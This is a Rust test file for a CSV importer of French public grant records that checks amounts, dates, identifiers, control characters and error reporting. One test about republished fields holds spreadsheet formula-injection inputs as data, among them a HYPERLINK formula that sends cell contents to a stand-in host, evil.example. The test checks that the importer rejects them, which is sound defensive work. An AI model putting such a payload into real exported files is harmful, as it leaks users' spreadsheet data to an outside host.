use super::*;
use crate::domain::lang::Lang;

const TERRITORY: &str = "20002341400010";
const BENEFICIARY: &str = "73282932000074";

fn schemes() -> Vec<KnownScheme> {
    vec![
        KnownScheme { id: "s1".into(), code: "DI-ESS".into(), name: "Dynamique Immobilier ESS".into() },
        KnownScheme { id: "s2".into(), code: "DL-ESS".into(), name: "Dynamique Location ESS".into() },
    ]
}

fn today() -> NaiveDate {
    NaiveDate::from_ymd_opt(2026, 11, 22).unwrap()
}

fn header() -> String {
    FIELDS.join(",")
}

fn row(amount: &str, scheme: &str) -> String {
    format!(
        "Métropole Rouen Normandie,{TERRITORY},2021-06-30,DEL-2021-42,\"Les Ateliers, Solidaires \",{BENEFICIARY},W763001234,\
         Rénovation de l'atelier,{amount},aide en numéraire,unique,2021-09-01,,non,1.00,{scheme}"
    )
}

fn parse_text(text: &str) -> Result<Vec<ImportedGrant>, Rejection> {
    let schemes = schemes();
    parse(text.as_bytes(), &ImportContext { attributor_siret: TERRITORY, schemes: &schemes, today: today() })
}

fn errors_of(text: &str) -> Vec<(u64, String, String)> {
    parse_text(text)
        .expect_err("refused")
        .errors
        .into_iter()
        .map(|e| (e.line.unwrap(), e.field, e.code.to_string()))
        .collect()
}

#[test]
fn amounts_are_exact_cents() {
    assert_eq!(parse_cents("47800.20"), Ok(4_780_020));
    assert_eq!(parse_cents("33000"), Ok(3_300_000));
    assert_eq!(parse_cents("0.1"), Ok(10));
    assert_eq!(parse_cents("99786.57"), Ok(9_978_657));
    assert_eq!(parse_cents("12.3400"), Ok(1234));
    assert_eq!(parse_cents("-5"), Ok(-500));
    assert_eq!(parse_cents("0000012.00"), Ok(1200));
    // 0.1 + 0.2 in floats is not 0.3; here every digit is kept.
    assert_eq!(parse_cents("1000000000.29"), Ok(100_000_000_029));
    assert_eq!(parse_cents(""), Err(FieldCode::Required));
    assert_eq!(parse_cents("12.345"), Err(FieldCode::TooPrecise));
    for bad in ["12,50", "1e3", "inf", "NaN", ".5", "5.", "1 000", "+5", "--5", "12.3.4", "€12"] {
        assert_eq!(parse_cents(bad), Err(FieldCode::NumberFormat), "{bad}");
    }
    assert_eq!(parse_cents("99999999999999999999"), Err(FieldCode::OutOfRange));
}

#[test]
fn dates_are_exactly_iso() {
    assert_eq!(parse_date("2021-06-30"), NaiveDate::from_ymd_opt(2021, 6, 30));
    for bad in ["2021-6-30", "30/06/2021", "2021-02-30", "+021-06-30", "2021-06-30T00:00"] {
        assert_eq!(parse_date(bad), None, "{bad}");
    }
}

#[test]
fn a_valid_file_gives_its_grants_with_their_lines() {
    let text = format!(
        "\u{feff}{}\r\n{}\r\n{}\n",
        header(),
        row("47800.20", "DI-ESS"),
        row("33000", "dynamique location ess")
    );
    let grants = parse_text(&text).expect("valid");
    assert_eq!(grants.len(), 2);
    let first = &grants[0];
    assert_eq!(first.line, 2);
    assert_eq!(first.amount_cents, 4_780_020);
    assert_eq!(first.scheme_id, "s1");
    assert_eq!(first.beneficiary_name, "Les Ateliers, Solidaires");
    assert_eq!(first.decision_reference.as_deref(), Some("DEL-2021-42"));
    assert_eq!(first.decided_on, NaiveDate::from_ymd_opt(2021, 6, 30).unwrap());
    assert_eq!(
        first.import_key,
        format!(r#"["{TERRITORY}","DEL-2021-42","{BENEFICIARY}","2021-06-30",4780020]"#)
    );
    assert_eq!((grants[1].line, grants[1].scheme_id.as_str()), (3, "s2"));
    assert_eq!(
        first.published,
        PublishedTerms {
            nature: "aide en numéraire".into(),
            payment_conditions: "unique".into(),
            payment_period: "2021-09-01".into(),
            rae_id: None,
            eu_notified: false,
            subsidy_share: "1.00".into(),
        },
        "the payment and notification terms are kept as written"
    );
    // A header alone is a valid file of no row.
    assert_eq!(parse_text(&header()).unwrap(), vec![]);
}

#[test]
fn every_error_is_reported_with_its_line_and_field() {
    let bad_row = format!(
        "X,{TERRITORY}0,2021-13-01,,,12345678901234,w12,,12.345,aide,unique,2021,123456,peut-être,1.5,NOPE"
    );
    let other_attributor = row("10", "DI-ESS").replace(TERRITORY, "35600000000048");
    // A quoted field over two lines: the next row starts on line 6.
    let multi = row("10", "DI-ESS").replace("Rénovation de l'atelier", "\"Rénovation\nde l'atelier\"");
    let text = format!(
        "{}\n{}\n{bad_row}\n{other_attributor}\n{multi}\n{}\na,b\n",
        header(),
        row("10", "DI-ESS"),
        row("0", "DL-ESS")
    );
    let errors = errors_of(&text);
    let on = |line: u64| {
        errors.iter().filter(|e| e.0 == line).map(|e| (e.1.as_str(), e.2.as_str())).collect::<Vec<_>>()
    };
    assert!(on(2).is_empty());
    assert_eq!(
        on(3),
        vec![
            ("idAttribuant", "siret_format"),
            ("dateConvention", "date_format"),
            ("nomBeneficiaire", "required"),
            // 123456789 fails the SIREN's own check digit, which is checked first.
            ("idBeneficiaire", "siren_checksum"),
            ("rnaBeneficiaire", "rna_format"),
            ("objet", "required"),
            ("montant", "too_precise"),
            ("nature", "not_allowed"),
            ("datesPeriodeVersement", "date_format"),
            ("idRAE", "too_long"),
            ("notificationUE", "not_allowed"),
            ("pourcentageSubvention", "out_of_range"),
            ("dispositifAide", "unknown_scheme"),
        ]
    );
    assert_eq!(on(4), vec![("idAttribuant", "other_attributor")]);
    assert!(on(5).is_empty() && on(6).is_empty(), "{errors:?}");
    assert_eq!(on(7), vec![("montant", "not_positive")]);
    assert_eq!(on(8), vec![("(row)", "field_count")]);
}

#[test]
fn a_wrong_header_stops_at_line_one() {
    let header = header().replace("montant", "montantTotal") + ",extra";
    let errors = errors_of(&format!("{header}\n{}\n", row("10", "DI-ESS")));
    assert_eq!(
        errors,
        vec![
            (1, "montant".to_string(), "header_mismatch".to_string()),
            (1, "extra".to_string(), "unexpected_column".to_string())
        ]
    );
    assert_eq!(errors_of(""), vec![(1, "(file)".to_string(), "empty".to_string())]);
}

#[test]
fn rows_only_known_by_rna_or_in_the_future_or_not_utf8_are_refused() {
    let rna_only = row("10", "DI-ESS").replace(BENEFICIARY, "");
    let future = row("10", "DI-ESS").replace("2021-06-30", "2026-11-23");
    let mut text = format!("{}\n{rna_only}\n{future}\n", header()).into_bytes();
    text.extend_from_slice(row("10", "DI-ESS").replace("Rénovation", "Re\u{301}novation").as_bytes());
    let latin1: Vec<u8> = row("10", "DI-ESS")
        .replace("Rénovation", "R?novation")
        .bytes()
        .map(|b| if b == b'?' { 0xE9 } else { b })
        .collect();
    text.push(b'\n');
    text.extend_from_slice(&latin1);
    let schemes = schemes();
    let ctx = ImportContext { attributor_siret: TERRITORY, schemes: &schemes, today: today() };
    let errors: Vec<_> = parse(&text, &ctx)
        .unwrap_err()
        .errors
        .into_iter()
        .map(|e| (e.line.unwrap(), e.field, e.code.to_string()))
        .collect();
    assert_eq!(
        errors,
        vec![
            (2, "idBeneficiaire".to_string(), "required".to_string()),
            (3, "dateConvention".to_string(), "in_future".to_string()),
            (5, "objet".to_string(), "not_utf8".to_string()),
        ]
    );
}

#[test]
fn errors_stop_at_the_maximum() {
    let bad = row("0", "DI-ESS");
    let text = format!("{}\n{}", header(), vec![bad; MAX_ERRORS + 5].join("\n"));
    let rejection = parse_text(&text).unwrap_err();
    assert_eq!(rejection.errors.len(), MAX_ERRORS);
    assert!(rejection.truncated);
}

/// The row's value of `field`, as [`row`] writes it (before CSV quoting).
fn value_in_row(field: &str) -> String {
    let text = row("10", "DI-ESS");
    let record = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .next()
        .unwrap()
        .unwrap();
    record[FIELDS.iter().position(|f| *f == field).unwrap()].to_string()
}

/// [`row`] with `field` set to `value` (CSV-quoted).
fn row_with(field: &str, value: &str) -> String {
    let text = row("10", "DI-ESS");
    let mut record: Vec<String> = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .next()
        .unwrap()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect();
    record[FIELDS.iter().position(|f| *f == field).unwrap()] = value.to_string();
    let mut writer = csv::WriterBuilder::new().from_writer(Vec::new());
    writer.write_record(&record).unwrap();
    String::from_utf8(writer.into_inner().unwrap()).unwrap().trim_end().to_string()
}

#[test]
fn a_control_character_in_any_field_is_that_fields_only_error() {
    for control in ['\u{0}', '\u{1b}', '\u{7f}', '\u{9b}'] {
        let rows: Vec<String> =
            FIELDS.iter().map(|f| row_with(f, &format!("{}{control}", value_in_row(f)))).collect();
        let errors = errors_of(&format!("{}\n{}\n", header(), rows.join("\n")));
        let expected: Vec<(u64, String, String)> = FIELDS
            .iter()
            .enumerate()
            .map(|(i, f)| (i as u64 + 2, f.to_string(), "control_character".to_string()))
            .collect();
        assert_eq!(errors, expected, "U+{:04X}", u32::from(control));
    }
    // Tabs and line breaks within a cell are white space, collapsed into one space.
    let grants = parse_text(&format!("{}\n{}\n", header(), row_with("objet", "Rénovation\tde\nl'atelier")))
        .expect("valid");
    assert_eq!(grants[0].object, "Rénovation de l'atelier");
}

#[test]
fn dates_are_bounded_like_the_apis() {
    let date = |on: &str| row_with("dateConvention", on);
    let period = |p: &str| row_with("datesPeriodeVersement", p);
    let text = [
        date("0001-01-01"),
        date("1999-12-31"),
        period("1999-12-31"),
        period("2021-09-01/2101-01-01"),
        period("2021-09-01/2021-08-31"),
        period("0001-01-01/9999-12-31"),
    ]
    .join("\n");
    let errors = errors_of(&format!("{}\n{text}\n", header()));
    assert_eq!(
        errors,
        [
            (2, "dateConvention"),
            (3, "dateConvention"),
            (4, "datesPeriodeVersement"),
            (5, "datesPeriodeVersement"),
            (6, "datesPeriodeVersement"),
            // One error a field.
            (7, "datesPeriodeVersement"),
        ]
        .map(|(line, field)| (line, field.to_string(), "out_of_range".to_string()))
    );
    let rejection = parse_text(&format!("{}\n{}\n", header(), date("0001-01-01"))).unwrap_err();
    assert_eq!(
        rejection.errors[0].message.in_(Lang::En),
        "dateConvention must be between 2000-01-01 and 2026-11-22"
    );
    // The bounds themselves.
    let edges =
        [date("2000-01-01"), date("2026-11-22"), period("2000-01-01/2100-12-31"), period("2100-12-31")];
    let grants = parse_text(&format!("{}\n{}\n", header(), edges.join("\n"))).expect("valid");
    assert_eq!(grants[0].decided_on, NaiveDate::from_ymd_opt(2000, 1, 1).unwrap());
    assert_eq!(grants[2].published.payment_period, "2000-01-01/2100-12-31");
}

#[test]
fn republished_texts_may_not_start_like_a_formula() {
    let text = [
        row_with("referenceDecision", "=1+2"),
        row_with("nomBeneficiaire", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"clic\")"),
        row_with("objet", "+SUM(A1)"),
        row_with("conditionsVersement", "-1"),
        row_with("idRAE", "@A1"),
        row_with("objet", " \t =A1"),
    ]
    .join("\n");
    let errors = errors_of(&format!("{}\n{text}\n", header()));
    let formula = |line: u64, field: &str| (line, field.to_string(), "formula_prefix".to_string());
    assert_eq!(
        errors,
        [
            formula(2, "referenceDecision"),
            formula(3, "nomBeneficiaire"),
            formula(4, "objet"),
            formula(5, "conditionsVersement"),
            formula(6, "idRAE"),
            formula(7, "objet"),
        ]
    );
    // Further on, or in a field Essor does not republish, these characters are text.
    let fine = [
        row_with("objet", "2e tranche - travaux = 50 %"),
        row_with("nomBeneficiaire", "3F @ Rouen"),
        row_with("nomAttribuant", "-Rouen"),
    ];
    assert_eq!(parse_text(&format!("{}\n{}\n", header(), fine.join("\n"))).expect("valid").len(), 3);
}
